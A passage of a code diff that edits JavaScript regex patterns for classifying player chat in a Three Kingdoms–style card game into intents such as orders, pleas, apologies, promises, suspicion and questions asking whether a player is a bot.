(?:i|we)|shall we (?:attack|hit|kill|focus|go)|any plans?|will you (?:attack|hit|help|save|protect|kill|target))\b/;
 const ROLE_ASKED = any(
 	`(?:是|像)(?:不是|个|哪个)?${ROLE_ZH}(?:吗|么|吧|啊|还是|呀|$)`,
 	`是不是(?:个)?${ROLE_ZH}`,
@@ -19337,11 +19341,10 @@ const ASKED_KINDLY = /(?:好不好|行不行?|行吗|好吗|可以吗|成不|能
 const URGED = /快|倒是|赶紧|赶快|给我|帮我|^去|先|一起|都|别|应该|必须|得|继续|再|请/;
 const ANY_HARM = /弄(?=[死他她它你我\d一二三四五六七八主])|[打杀砍捅刮削捶踹踩怼剐敲踢抽咬薅扎戳刺烧燎炸电轰射劈剁斩坑阴整拆顺偷抢扒抠扬砸揍锤虐突毒]|欺负|收拾|针对|逮着|盯着|追着|找茬|乐|兵|断.?粮|铁索|决斗|火攻|南蛮|万箭|\b(?:tap|hit|hurt|attack|burn|struck|shot|stab|duel|snatch|stole|took|kill|beat)\w*/;
 const ANY_HELP = /[救帮保护奶喂塞递抬捞扶续罩挡]|回血|给.{0,3}[牌桃]|桃|无懈|\b(?:sav|help|heal|gave|peach|rescu|protect)\w*/;
-const SAYS_YOU = /[你您妳]|\b(?:you|u|ur|your)\b/;
+const SAYS_YOU = /[你您妳]|\b(?:you|u|ya|ur|your|youre)\b/;
 const ADMIRED = /解气|漂亮|敬你|学到|学会|秒啊|妙|[真太好]?帅|大气|舍得|暖|点赞|懂得|会过日子|有眼光|可以啊|牛|厉害|佩服|解围|功臣|及时|救命|干得|打得好|给力|靠谱|\b(?:nice|clean|great|love that|well played|sweet|clutch|beautiful)\b/;
 const INTERJECTION = /^(?:卧槽|我[靠去擦]|靠|草|艹|不是|等等|等会儿?|哎呀?|诶|欸|喂|哦+~*|噢|嗯+|呃|额|得|行|好家伙|天呐?|我的天|哈+|呵+|嘿嘿*|wait|so|well|ok|lol|lmao|wtf|omg|bro|dude|man|yo|hey|oi|real talk|btw|no offense)$/;
 const STRONGER = /(?:哪个|谁|哪位)(?:更|比较|最|到底)?(?:强|厉害|好玩|猛|能打|好用|帅|难打|克)/;
-const SELF_ASKED = /(?:有|都是|全是|一屋子|一桌子?|满桌)(?:的|都是)?(?:活人|真人|机器人|人机|ai|bot)|\b(?:r|are) (?:u|you|ya)(?: guys| all)? (?:all )?(?:bots?|ais?|robots?)\b|你们(?:几个|几位|这些|这帮|该)?(?:不会|别)?(?:全|都|其实|真的?)*是(?:不是)?(?:ai|人工智能|机器人|电脑|人机|bot|npc|真人|脚本)|你(?:到底|真的?|究竟|该不会|不会|难道)?(?:是|算)?(?:不是)?(?:个|一个)?(?:ai|人工智能|机器人|机器|电脑|程序|人机|真人|活人|bot|npc|人类|gpt|大模型|脚本|chatgpt)|(?:谁|什么人|哪个公司|哪家)(?:做|造|写|开发|训练|创造|设计|编)(?:的|了|出)?你|(?:做|造|写|开发|创造)你的(?:人|是)|你(?:几岁|多大|今年|叫什么|叫啥|名字(?!都|也|还)|住哪|哪里人|有女朋友|有男朋友|有对象|喜欢什么|喜欢啥|会什么|有感情|有意识|会累|会疼|会难过|记得我|认识我|开心吗|高兴吗|无聊吗|累吗|累不累|还好吗|好吗|怎么样$|最近)|你(?:在)?(?:想|干)(?:什么|啥|嘛)(?:呢)?$|(?:是|和)(?:真人|人|电脑|ai|机器人)(?:在)?(?:玩|说|聊|打)(?:吗|么|话)|\b(?:are|r) (?:you|u) (?:an? |really |even |actually |just )*(?:ai|bot|robot|human|real|person|machine|program|npc|computer|alive|chatgpt|gpt)\b|\bwho (?:made|built|created|programmed|wrote|trained) (?:you|u)\b|\b(?:how old are you|what(?:'s| is) your name|where (?:are|do) you (?:from|live)|how are you|how(?:'s| is) it going|how do you feel|do you (?:like|love|have feelings|sleep|dream|eat|remember me)|what are you (?:doing|thinking|up to)|are you (?:tired|bored|happy|there))\b/;
 const FACT_ASKED = /(?:算|是)谁(?:的|头上|干的|弄的)|谁的锅|谁(?:干|弄|做|搞|整)的|(?:咋|怎么)(?:没|掉|少)的|血(?:量)?(?:咋样|怎么样|还?够不够|还行吗)|撑得住|\bwhat (?:did|has|have|was) .{1,20} (?:do|done|doing|been up to)\b|\bwho (?:got|is|was) \w+(?:ed|t)\b|\b(?:did|does|was) .{1,30}\b(?:hit|hurt|land|miss|go through)\b|(?:说|讲|聊|喊)(?:过|了)?(?:什么|啥)(?:话|来着|了)?|(?:什么|啥)(?:遗言|话)|遗言|发生(?:了|过)?(?:什么|啥)|(?:怎么|咋)(?:回事|了$|死的|没的|掉的血|就死)|(?:谁|哪个|几号).{0,8}(?:的|了|过|我|主公|死|来着|先动手|先打)$|(?:谁|哪个|几号)(?:刚才?|先|上回合|上轮|上一轮|一直|第一个|最先|曾|给|把|对|用|出|跳|死|救|打|杀|砍|拆|顺|无懈|懈|保|帮|放|开)|(?:干|做|用|出|打|拆|顺|杀|救)(?:了|过)(?:什么|啥|谁|哪|几)|(?:有没有|是不是有|有)(?:闪|桃|杀|无懈|酒|牌|装备|南蛮|万箭|连弩|乐|兵)(?:吗|么|没|不|没有|$)|(?:轮|到)(?:到)?(?:谁|哪个|几号)|(?:谁|几号)的回合|现在(?:第几|几)(?:轮|回合)|第几(?:轮|回合)|(?:谁|几号)(?:还)?活着|(?:谁|哪些人?|几号)(?:已经)?(?:死|挂|没|出局)了?|(?:他|她|[一二三四五六七八九\d]+号|主公|你|我)(?:现在|目前|这会儿|手里|手上)?(?:还)?(?:剩|有)?(?:下)?(?:几|多少)(?:点|滴|格)?(?:血|张牌|手牌|张手牌|体力)|\b(?:who (?:hit|attacked|killed|shot|slashed|struck|saved|healed|helped|stole|took|discarded|dismantled|nullified|gave|used|played|did|died|was|has|started|just|is (?:dead|alive|left|next))|what (?:happened|did (?:he|she|they|you|i|seat|player|\d|\w+) (?:say|do|use|play|take)|have i missed|was (?:that|his|her|said))|whose turn|which round|what (?:turn|round)|last words|how (?:did|much hp|many (?:cards|hp|peaches)))\b/;
 const HELP = /有没有桃|谁.{0,3}有桃|匀(?:我|给我|个|口)|救(?:我|命|救我|驾|一?手|一?命)|^(?:快)?救(?:救|一下)?$|(?:求|给|来|交|出|留)(?:我|个|颗|点|一个|一颗|他|她|主公|我个|我一个)?桃|桃(?:呢|来$|有没有)|(?:谁|有没|你们)有桃|有桃(?:吗|么|没|不)|奶(?:我|一口|一下)|拉我(?!们)|护驾|(?:要死|快死|撑不住)了.{0,3}(?:救|帮|桃)|\b(?:help(?: me)?(?! (?:him|her|the|seat|\d|[a-z]+ \d)|ed|s)|save (?:me|us|my)|heal (?:me|us)|(?:any|a|need|give|got|have|spare)(?: me)?(?: an?)? ?peach|peach (?:me|please|pls)|sos)\b/;
 const HELP_CALLED = /(?:谁|有(?:没有)?人|哪位)(?:来|去|能|给|快)*(?:帮|替|救|奶|护|保).{0,4}(?:挡|补|救|奶|[一]?[手把下口])|\b(?:anyone|anybody|somebody|someone) (?:help|save|heal|cover)\b/;
@@ -19350,20 +19353,21 @@ const DOUBTS = /(?:看|瞧)(?:花眼|走眼|岔)|瞎(?:掰|编)/;
 const STANDS = /血(?:量)?(?:咋样|怎么样|还?够不够|还行吗)|撑得住|(?:几|多少)(?:点|滴|格)?(?:血|体力)|\bhow (?:much|many) (?:hp|health)\b|\byou (?:ok|okay|alright|all right|still alive)\b/;
 const NO_SUCH = /哪有.{1,10}的(?:$|[,.!?啊呀])/;
 const SUPPOSED2 = /^(?:要是|如果|万一|假如|若|只要|除非)|[你您](?:一|要是)?(?:回来|回合|轮到|到了?)就|.我就(?:跟|信|认|听|停|放|去)|(.)了就\1了|我(?:可|就)?当.{0,3}[砍打杀]|\b(?:if|in case|suppose)\b/;
-const ROLE_WANTED = /认领|招(?:了|认)?吧|交代(?:吧|身份)|(?:亮|报|跳)(?:个|一下|下|出)?身份/;
+const ROLE_WANTED = /\b(?:admit it|confess(?: already)?|fess up|come clean|own up)\b|认领|招(?:了|认)?吧|交代(?:吧|身份)|(?:亮|报|跳)(?:个|一下|下|出)?身份/;
 const ASSERTED = /(?:没|不是).{1,10}(?:吗|么)$/;
+const IS_NOT = /不是.{1,10}的(?:吗|么)$/;
 const TAG_EN = /[, ]+(?:ok|okay|right|huh|yeah|yes|eh|lol)$/;
 const NO_PLEA = /(?:没有?|不肯?|不来|不去|未|不想|懒得|怎么不|别|不用|不要|谁让你)(?:去|来|人)?(?:救|帮|奶)|\b(?:not|n't|never|didnt|wont) (?:\w+ )?(?:help|save|heal)/;
 const SPARE = /(?:别|不要|别再|不要再|勿|莫|能不能不|可不可以不|能别|停止|住手)(?:老是?|总是?|一直|都|来)?(?:打|杀|砍|拆|动|搞|碰|顺|集火|针对|乐|兵|欺负|弄|捅|射|a|害|坑)(?:我(?!们)|俺|咱|人家)|别(?:再)?(?:对|冲|朝)(?:着|准)?(?:我(?!们)|俺)|饶(?:了)?(?:我|命)|放(?:过|了)我|放(?:我)?一?(?:马|条生路)|轻点(?:锤|打|揍|砍)|手下留情|高抬贵手|刀下留人|留(?:我)?一?(?:条)?(?:狗)?命|\b(?:don't|dont|do not|stop|quit|please don't|no need to)(?: keep)? (?:attack|hit|kill|target|hurt|shoot|gun|slash|pick|dismantl|steal|touch|bother|focus|burn)\w*(?: (?:from|on|my))* ?(?:me|my)\b|\b(?:spare me|have mercy|mercy|let me live|leave me alone|not me)\b/;
 const ORDER = new RegExp("(?:悠|收|省|匀)着点|消停|老实点|安分点|别(?:再|急着|老)?(?:打|杀|砍|拆|动|搞|碰|顺|集火|跳|救|浪|慌|急|装|闹|理|信|听|乱|上当)|不要(?:再|急着)?(?:打|杀|砍|拆|救|信|听|跳|乱)|(?:集火|先打|快打|一起打|都打|都去|打死|干掉|做掉|弄死|[摁按]死|盯(?:住|死|紧)|围(?!观)|先杀|砍死|杀掉|收掉|秒了)|(?:^|[,!.\\s]|去|给我|帮我|快|先|来|都|号|公|你|请|赶紧|赶快|直接|必须|继续|大家|一起|再|倒是)(?:收了|收掉|打|杀|砍|拆|顺|乐|兵|捅|捶|揍|弄|办|控|保|护|救|打掉|拆掉|帮|盯|信|听(?!我一句|我说)|留|压|奶)(?![得的好算扰了过不法字听话笑命急情名])(?:一下|一手|一?刀|着|住)?(?:他|她|它|主|反|内|忠|我(?!们)|[一二三四五六七八九十\\d]{1,2}(?:号|$|[,.!?了啊吧])|\\p{Script=Han}{2,4}(?:$|[,.!吧啊]))|开杀|(?:快|赶紧|你|去|先|给他)?用(?:南蛮|万箭|决斗|无懈|桃园|火攻|乐)|下一?个(?:就)?(?:是|打|杀|搞|收)?(?:他|她|主公|[一二三四五六七八九十\\d]{1,2}号|\\p{Script=Han}{2,4}$)|压上|先(?:收|做|办|宰|点|搞|灭|锤|弄)|留(?:着|个|张|一)?(?:桃|闪|无懈|杀|牌)|(?:快|赶紧|你|去|先|请)(?:跳|出牌|出杀|跑|上|动手|过|结束|开|装|挂|交|摸|弃)|^(?:上|冲|动手|开打|开干|撤|稳住|等等|等一下|听我的|跟我|交给我|闭嘴|住口|都别动|控(?:一)?手)|给(?:他|她|主公|[一二三四五六七八九\\d]号)(?:一?[个张颗])?(?:牌|装备|桃|闪|酒|一刀|点)|(?:快|先|都|一起|去|帮我|赶紧|谁来|必须|得)?救(?:救|一下)?(?:主公|主|他|她|[一二三四五六七八九\\d]+号|\\p{Script=Han}{2,4}(?:$|[,.!吧啊]))|\\b(?:attack|kill|hit|focus|target|don't|dont|do not|stop|leave|go for|shoot|discard|protect|cover|guard|slash|dismantle|duel|finish|use|play|keep|watch|let's kill|listen|ignore|save|trust|believe)\\b", "u");
-const ORDER_EN = /^(?:if [^,]{1,20} then )?(?:(?:please|pls|now|ok|so|then|just|hey|everyone|everybody|guys|all|quick(?:ly)?|lord|seat \d+|player \d+|\d+|you|you should|you must|you have to|we should|we must|we need to|go|come on|someone|somebody)[ ,]+)*(?:attack|kill|hit|focus|target|don't|dont|do not|stop|leave|go for|get|shoot|discard|protect|cover|guard|slash|dismantle|duel|finish|use|play|keep|watch|listen|ignore|save|trust|believe|take|give|be careful|wait(?= for|$|[,.!])|calm|shut|reveal|show|follow|steal|help)\b/;
+const ORDER_EN = /^(?:if [^,]{1,20} then )?(?:(?:please|pls|now|ok|so|then|just|hey|everyone|everybody|guys|all|quick(?:ly)?|lord|seat \d+|player \d+|\d+|you|(?:can|could|will|would) (?:you|u|ya)(?: please| pls| just)?|you should|you must|you have to|we should|we must|we need to|go|come on|someone|somebody)[ ,]+)*(?:attack|kill|hit|focus|target|don't|dont|do not|stop|leave|go for|get|shoot|discard|protect|cover|guard|slash|dismantle|duel|finish|use|play|keep|watch|listen|ignore|save|trust|believe|take|give|go easy|take it easy|ease up|easy (?:on|with)|hold back|chill|be careful|wait(?= for|$|[,.!])|calm|shut|reveal|show|follow|steal|help)\b/;
 const PROPOSE = /商量(?:个|件|一下|下)|谈(?:个|笔)价|成交(?:不|吗|么|没)|让(?:给)?我(?:行不|行吗|好不|吧|呗)|(?:人头|功劳)(?:让|给|归)我|咱(?:们|俩|仨)?先(?:弄|搞|收拾|办|做|灭|打)|(?:投|认输|投降)了?(?:吧|得了|算了)|停手(?:吧|好不|行不|行吗|怎么样|如何)|(?:我们|咱们|咱|咱俩|你我)(?:来|先|一起|联手|合作|结盟|都|可以|不如|要不|就|互)(?!.{0,2}(?:下班|吃|睡|回家|散))|合作|联手|结盟|联盟|停战|休战|议和|讲和|和解|互不(?:侵犯|打|动)|谈(?:个|笔)?(?:条件|交易|判)|做(?:个|笔)?交易|交易(?:吗|不|如何)|(?:要不(?!是|要(?:这么|那么|脸))|不如|何不|干脆|(?<!要么.*)要么(?!.*要么))(?!$)|再(?:来|开|玩|打)(?:一)?(?:局|把|盘)|下(?:一)?(?:局|把|盘)(?:还|再|继续|也)?(?:来|玩|打|约)|(?:你|您)(?:别|不)(?:打|动|杀|拆|碰)我.{0,4}我(?:也|就|便|保证)?(?:别|不|绝不)|(?:一起|先)(?:打|杀|集火|对付|收拾|灭)(?!谁|哪|几).{0,6}(?:吧|怎么样|如何|好吗|好不好|行吗|行不行|可好|呗)|\b(?:let's|lets|let us|shall we|how about|what about (?:we|a)|team up|ally|alliance|truce|(?<!(?:your|ur|big|the) )deal|cease ?fire|work together|join forces|if you (?:don't|dont|won't|spare|leave)|another (?:game|round)|one more (?:game|round)|play again|we (?:could|can|should) (?:all )?(?:work|team|focus|attack|kill|go))\b/;
 const PROMISE = new RegExp("(?<![把被让给对打砍杀拆顺跟向冲])我(?:们)?(?:现在|真的?|肯定|保证|发誓|答应(?:你)?|承诺|下(?:个|一)?(?:回合|轮)|这(?:个|一)?(?:回合|轮|局|把)|本(?:回合|轮)|以后|绝对|一定|肯定|也|就|可以|先|今后|接下来|全程|整局|永远|再也|就|都|再)*(?:不(?:会|再|可能)?|绝不|决不|再也不|保证不|永远不)(?:再|会|去|主动)*(?:打|杀|砍|拆|动|搞|碰|顺|针对|集火|乐|兵|惹|捅|害|追|盯)|(?:这|下|本)(?:个|一)?(?:回合|轮|局|把)(?:我)?(?:绝对|保证|肯定|一定)?不(?:会)?(?:打|杀|砍|拆|动|碰|顺)(?:你|他|她|主|[一二三四五六七八九\\d])|我(?:保证|发誓|答应你?|承诺|一定|肯定|必|定|下(?:个|一)?(?:回合|轮)|这(?:就|回合|轮)|马上|来|会|帮你|替你|去|先|要)*(?:会|来|去|帮你|替你|给你|要)*(?:救|保|护|罩|挡|打|杀|砍|拆|集火|收拾|干掉|灭|留)(?!了|过|的|掉[一二两三\\d]|得|错|电话|着?字|算|赌|牌)(?:护|着|住)?(?:你|您|他|她|主公|主|[一二三四五六七八九十\\d]{1,2}号?|\\p{Script=Han}{2,4})|(?:包在我身上|一言为定|说话算话|君子一言|我发誓(?!.*(?:忠|反|内|好人)))|\\bi(?:'ll| will| won't| wont| will not| promise| swear|'m going to| am going to|'m gonna| gonna| would never|'d never)\\b(?!.*\\b(?:loyal|rebel|traitor|regret)\\b).{0,24}\\b(?:attack|hit|kill|touch|hurt|target|save|help|protect|heal|cover|guard|spare|leave|go (?:for|after)|shoot|slash|keep|give|fight|finish|betray|be good)\\b|\\bi(?: promise|'ll promise| swear)\\b(?!.*\\b(?:loyal|rebel|traitor|good)\\b)|\\byou have my word\\b", "u");
 const HOLDING2 = /(?:手里|手上|手牌)?(?:还)?(?:有|没有?|只有|只剩|全是|捏着|留着|留了)(?:个|张|一张|一个|两张|两个|了)?(?:桃|闪|杀|无懈|酒|牌(?!太|真)|装备|南蛮|万箭|连弩|乐|兵|决斗|火攻)|\b(?:have|has|got|holding|hold|keeping) (?:no |an? |the |two |any |some )?(?:peach|dodge|slash|cards?|nullification|wine|weapon|crossbow)/;
 const HAND_ASKED = /手(?:里|上|头|中|牌)?(?:里)?.{0,6}(?:几|多少)多?[张个件颗]|(?:剩|有|留|拿|攥|捏|藏)(?:着|下|了)?(?:几|多少)多?[张件](?!反|忠|内)|[几两][张件](?:牌|手牌)?.{0,3}还?(?:剩|有)$|(?:几|多少)多?[张件].{0,3}还(?:剩|有)|手(?:里|上|头|中).{0,3}(?:是不是|有没有|该不会|不会|得有|肯定有).{0,4}(?:闪|桃|杀|无懈|酒|[一两二三四五六七八九几\d]张)|没牌还是|[揣攥捏藏捂]了?(?:一打|几|多少|一堆|一把)|数(?:给|来)我(?:看|听)|\bhow many (?:cards|peaches|dodges|strikes|slashes|nullif\w+)\b.{0,12}\b(?:you|u|he|she|they|left)\b|\bany (?:peach(?:es)?|dodges?|nullif\w+|wine) left\b|\bwhat'?s left in (?:there|your hand|hand)\b/;
 const IN_HAND = /(?:手里|手上|兜里|怀里|手头).{0,8}(?:攥|捏|揣|藏|压|留|握)着|(?:手里|手上|手头)(?:就|只|还|可|真|都)?(?:剩|有|没有?)?[一两俩二三仨几\d]?[张个颗]?(?:桃|闪|杀|无懈|酒|aoe)|我就?剩[一两俩\d][张个颗](?:桃|闪|杀|无懈)|捏着.{0,4}(?:那|我)|[攥捏扣]了(?:几|多少|[一二两三四])[张个]|手(?:里|上|中|牌里?)(?:肯定|一定|八成|应该|还|就|都|绝对)*(?:有|没有?|捏|攥|留|握|藏|拿|揣|扣|压)(?:着|了|的)?.{0,4}(?:桃|闪|杀|无懈|酒|南蛮|万箭|连弩|乐|兵|决斗|火攻|牌)/;
 const THANKS = /救命之恩|没齿难忘|大恩|(?<![别甭]|不用|不必|谁要你)谢(?!幕|绝|顶|安|道|灵|玄)|感恩|感激|感谢|承让|有劳|多亏(?:你|您|了)|靠你了|辛苦(?:了|你)|\b(?:thx|thanks|thank|ty|tysm|cheers|much obliged|appreciate)\b/;
-const APOLOGY = /别生(?:我)?气|消消气|别多心|别误会|我有罪|请罪|对不起|对不住|抱歉|不好意思|误伤|误会(?:一场|了你|你了)|(?<![得到])手[滑抖]|别(?:介意|往心里去)|点错|按错|打错(?:人|了)(?:.{0,3}$)|我(?:的)?错|我错了|错怪|怪我|见谅|原谅(?:我|一下)|多有得罪|得罪了(?!谁|多少|几|你|他|她|人|这|那)|失礼|失敬|赔(?:罪|个不是|礼)|别记(?:仇|恨)|(?:不是|没|并非)(?:冲|针对)(?:你|着你)|(?:纯|就是|只是)(?:试探|试一下|试试)|捎带(?:的|着|上)|看岔|看错了$|不是故意|不是有意|并非有意|无意(?:冒犯|伤你|伤)|没想(?:到会|伤|打|害)(?:你|伤)|sry|\b(?:soz|sorry|my bad|apolog\w*|my fault|oops|forgive me|(?:didn't|did not|didnt) mean (?:to|it)|no offen[cs]e|misclick(?:ed)?|by accident|accident(?:al)?ly)\b/;
+const APOLOGY = /(?:多有|刚才|是我|我)?冒犯(?:了|到(?:你|您))(?!谁|主公|他|她)|别生(?:我)?气|消消气|别多心|别误会|我有罪|请罪|对不起|对不住|抱歉|不好意思|误伤|误会(?:一场|了你|你了)|(?<![得到])手[滑抖]|别(?:介意|往心里去)|点错|按错|打错(?:人|了)(?:.{0,3}$)|我(?:的)?错|我错了|错怪|怪我|见谅|原谅(?:我|一下)|多有得罪|得罪了(?!谁|多少|几|你|他|她|人|这|那)|失礼|失敬|赔(?:罪|个不是|礼)|别记(?:仇|恨)|(?:不是|没|并非)(?:冲|针对)(?:你|着你)|(?:纯|就是|只是)(?:试探|试一下|试试)|捎带(?:的|着|上)|看岔|看错了$|不是故意|不是有意|并非有意|无意(?:冒犯|伤你|伤)|没想(?:到会|伤|打|害)(?:你|伤)|sry|\b(?:soz|sorry|my bad|apolog\w*|my fault|oops|forgive me|(?:didn't|did not|didnt) mean (?:to|it)|no offen[cs]e|misclick(?:ed)?|by accident|accident(?:al)?ly)\b/;
 const APOLOGY_NOT = /(?:总|该)?不会(?:也|又)?(?:还)?是.{0,2}手[滑抖误]|(?:又|也|还)是?手[滑抖]|手[滑抖](?:\?|呢$|吗|了\?)|(?:跟|给|向|和)我(?:说)?(?:道歉|对不起|赔)|道歉(?:吧|啊|!|了吗)|(?:道歉|歉意)(?:我)?(?:接受|收下|心领)|凭什么.*(?:道歉|原谅)|(?:不用|不必|别|干嘛)(?:说)?(?:道歉|抱歉|对不起|不好意思)|(?:怪我|我的错)(?:吗|咯|么)|\b(?:apology accepted|accept your apology|no need to (?:be sorry|apologi\w*)|don't (?:be sorry|apologi\w*)|sorry (?:for (?:you|your loss)|but)|say (?:you're )?sorry|apologi[sz]e(?: to me)?$|not sorry)\b/;
 const BYE = /拜拜|先撤|\bbrb\b|一路走好|走好(?:啊|不送|$)|慢走|^gg+$|下[把局]见|拜拜|拜了|再见|先走(?:了|一步)|下线|我?溜了|告辞|后会有期|(?<![头第上][一次回]*)回见|晚安|明天见|我?撤了|走了各位|不玩了|\b(?:bye|goodbye|cya|gtg|g2g|gotta (?:go|run)|heading out|see (?:you|ya)|good night|gn|farewell|later (?:all|guys)|i'm (?:leaving|off|out))\b|^88+$/;
 const GREET = /^(?:来[咯了啦]?|开[始整局了啦咯][了啦咯]?|走起|上号)+$|^(?:大家|各位|诸位|主公|你|您|兄弟们?|朋友们?|老铁们?)?(?:好啊?|们好|早|早安)[!,.~呀啊]?$|你好(?!菜|弱|烦|吵|慢|坏|毒|狠|厉害|强|牛|可爱|美|帅|了|像)|大家好|各位好|哈[喽啰罗]|^嗨|^喂$|早上好|早安|晚上好|下午好|中午好|幸会|久仰|^在(?:吗|么|不)|初次见面|请多(?:关照|指教)|\b(?:hello|hi|hey|yo|howdy|greetings|sup|what's up|good (?:morning|evening|day|afternoon)|nice to meet|glhf|hf)\b/;
@@ -19376,10 +19380,10 @@ const SORROW = /唉|哎(?!呀妈|哟不错)|难过|伤心|呜|(?<!谁)要死了|
 const AFFECTION = /爱你|喜欢你|想你|么么|抱抱|亲亲|mua|比心|❤|爱了|嫁给|娶你|\b(?:love (?:you|u|ya)|like you|miss you|hugs?|xoxo|<3|marry me)\b/;
 const JOKE = /哈{2,}|嘻嘻|嘿嘿|嘿{2,}|笑死|笑哭|233|hhh|xswl|讲个笑话|说个笑话|开(?:个|句)?玩笑|逗你|玩梗|段子|整活|\b(?:lol|lmao|rofl|haha\w*|hehe\w*|jk|just kidding|jokes?|joking|kidding|funny)\b/;
 const AGREE = /^(?:好|哦+|噢|喔|好的|好吧|好啊|好呀|好嘞|行|行吧|行啊|成|成交|可以|可|没问题|同意|对|对的|对啊|没错|有道理|言之有理|是的|是啊|是|嗯+|嗯嗯?|哦好|说得对|说的对|确实|的确|赞同|听你的|收到|明白|懂了|懂|了解|遵命|得令|妥|ok|没毛病|就这么(?:办|定)|一言为定|答应你?|我(?:同意|答应|信|信你|相信你?|也觉得|也这么(?:想|看|觉得)|赞成|听你的|知道了?|明白了?)|信|信你|信了|相信你?|你说得对|你说的对|有理|依你|随你|中|要|当然|必须的?|那(?:好|行)吧?)[!,.~啊的呀吧了哦呢嘛啦]*$|\b(?:ok|okay|agreed?|you(?:'re| are) right|that's right|true|yes|yeah(?!,? right)|yep|yup|sure|deal|exactly|fine|got it|understood|i (?:agree|believe you|trust you|do|see|know)|makes sense|fair enough|alright|will do|of course|absolutely|good idea)\b/;
-const REFUSE = /^(?:不|不行|不要|不好|不可以|不可能|不干|不信|不同意|不答应|不用|不必|不了|不是|不对|没有|没|没门|休想|做梦|免谈|拒绝|算了|才不|才怪|我不(?:信|干|同意|要|答应|认|服|觉得)?|别想|别闹|不是我|胡说|扯淡|扯|瞎说|放屁|少来|得了吧|你猜|不告诉你|不知道|不清楚|不一定|未必|不见得|错|错了|你错了|不是我(?:干|做|打|杀|拆)的?|拉倒|恕难从命|想得美|想都别想|不存在的?|我不管|不至于|不会吧?|不给|不救|不打|不跳|我(?:觉得|看|认为)(?:不是|不对|未必|不像|不太像))[!,.~啊的呀吧了呢嘛啦]*$|(?:不|没法|难以)(?:相信|信|同意|认同|赞成)(?:你|他|她)?|^不[,.!]|\b(?:no(?!t)|nope|nah|never|no way|refuse|i (?:don't|dont|do not) (?:agree|believe|trust|think so|care|know|buy)|not (?:a chance|happening|interested|true|really|sure|me)|forget it|disagree|wrong|dream on|won't|that's (?:a lie|not true|false|wrong)|bullshit|nonsense)\b/;
+const REFUSE = /^别问我|^(?:不|不行|不要|不好|不可以|不可能|不干|不信|不同意|不答应|不用|不必|不了|不是|不对|没有|没|没门|休想|做梦|免谈|拒绝|算了|才不|才怪|我不(?:信|干|同意|要|答应|认|服|觉得)?|别想|别闹|不是我|胡说|扯淡|扯|瞎说|放屁|少来|得了吧|你猜|不告诉你|不知道|不清楚|不一定|未必|不见得|错|错了|你错了|不是我(?:干|做|打|杀|拆)的?|拉倒|恕难从命|想得美|想都别想|不存在的?|我不管|不至于|不会吧?|不给|不救|不打|不跳|我(?:觉得|看|认为)(?:不是|不对|未必|不像|不太像))[!,.~啊的呀吧了呢嘛啦]*$|(?:不|没法|难以)(?:相信|信|同意|认同|赞成)(?:你|他|她)?|^不[,.!]|\b(?:no(?!t)|nope|nah|never|no way|refuse|i (?:don't|dont|do not) (?:agree|believe|trust|think so|care|know|buy)|not (?:a chance|happening|interested|true|really|sure|me)|forget it|disagree|wrong|dream on|won't|that's (?:a lie|not true|false|wrong)|bullshit|nonsense)\b/;
 const QUIET = /没(?:有)?(?:一个)?人(?:说话|吭声|出声|吱声|理(?:我|人)|回(?:我|话))|(?:都|全|一个个)(?:不|没)(?:说话|吭声|出声|吱声|理(?:我|人)|聊)|(?:好|这么|太|真|咋这么|怎么这么)(?:安静|冷清)|冷场|\b(?:so quiet|this quiet|(?:why|is) (?:everyone|everybody) (?:so )?(?:quiet|silent)|nobody(?:'s| is)? (?:talks|talking|says|saying|answers)|anyone (?:there|alive|awake))\b/;
 const TOLD = /(?:(?<![要依让照]我)说|讲|声称|自称|承认|跟.{1,4}说|告诉)(?:过|了)?|\b(?:said|says|told|claimed|claims|admitted)\b/;
-const SUSPECTED = /不(?:是)?([反内])(?:贼|奸)?(?:的话)?谁(?:是)?\1|没得洗|没跑(?:了|$)|还装|装不下去|抱团|\b(?:are|r) (?:partners|buddies|a team|in cahoots)\b|[明铁硬真妥]反(?!应|正|对|过|复)|反(?:贼)?(?:没跑|跑不了|无疑|实锤)|(?:实|石)锤|摊牌|(?:这就|就|这是?|直接)跳(?:了|反)|[俩两](?:个)?反(?:贼)?|(?:押|赌|投|站)(?:他|她|你|[一二三四五六七八\d]号?)?.{0,2}(?:是)?反|狗咬狗|一唱一和|眉来眼去|(?:说|讲|解释)不通|哪有.{1,6}(?:打|砍|杀|拆|捅)主公|手脚不干净|表(?:忠心|演)|反(?:心|骨)|还(?:要|用)(?:啥|什么)?(?:证据|猜|说|问)|自爆|\b(?:my )?(?:money'?s?|bet(?:ting)?) (?:is )?on\b|\bi'?d? bet\b.{0,10}\b(?:reb|rebel|spy)|\b(?:a|is|'s) reb\b|(?<!没|没有|不)(?:不对劲|可疑|有问题|有鬼|嫌疑)|装.?忠|伪忠|跳反|反水|藏着|演技|别装(?!哑|死|聋|睡)|在(?:演|装(?!修)|藏|撒谎|骗|说谎|划水|带节奏)|装(?:什么|得|的|好人)|戏精|演员|两面派|墙头草|不像(?:好人|忠)|同[伙夥]|一[伙夥]的?|一边的|一队的?|穿一条裤子|串通|勾结|狼狈为奸|互相(?:帮|保|包庇)|包庇|心虚|狐狸尾巴|露馅|露出马脚|居心叵测|不怀好意|信不过|不可信|不能信|别信他|骗子|撒谎|说谎|在骗|(?<=(?:他|她|你|号|公|就|肯定|绝对|一定)是?)(?:敌人|坏|对面的)|\b(?:sus|suspicious|fishy|shady|faking|fake|liar|lying|lies|guilty|up to something|can't be trusted|cannot be trusted|don't trust|dont trust|teammates?|working together|in cahoots|same team|together on this|enemy|hiding something|acting)\b/;
+const SUSPECTED = /不(?:是)?([反内])(?:贼|奸)?(?:的话)?谁(?:是)?\1|没得洗|没跑(?:了|$)|还装|装不下去|抱团|\b(?:are|r) (?:partners|buddies|a team|in cahoots)\b|[明铁硬真妥]反(?!应|正|对|过|复)|反(?:贼)?(?:没跑|跑不了|无疑|实锤)|(?:实|石)锤|(?<!我|了)摊牌(?!了$|了[,!.])|(?:这就|就|这是?|直接)跳(?:了|反)|[俩两](?:个)?反(?:贼)?|(?:押|赌|投|站)(?:他|她|你|[一二三四五六七八\d]号?)?.{0,2}(?:是)?反|狗咬狗|一唱一和|眉来眼去|(?:说|讲|解释)不通|哪有.{1,6}(?:打|砍|杀|拆|捅)主公|手脚不干净|表(?:忠心|演)|反(?:心|骨)|还(?:要|用)(?:啥|什么)?(?:证据|猜|说|问)|自爆|\b(?:my )?(?:money'?s?|bet(?:ting)?) (?:is )?on\b|\bi'?d? bet\b.{0,10}\b(?:reb|rebel|spy)|\b(?:a|is|'s) 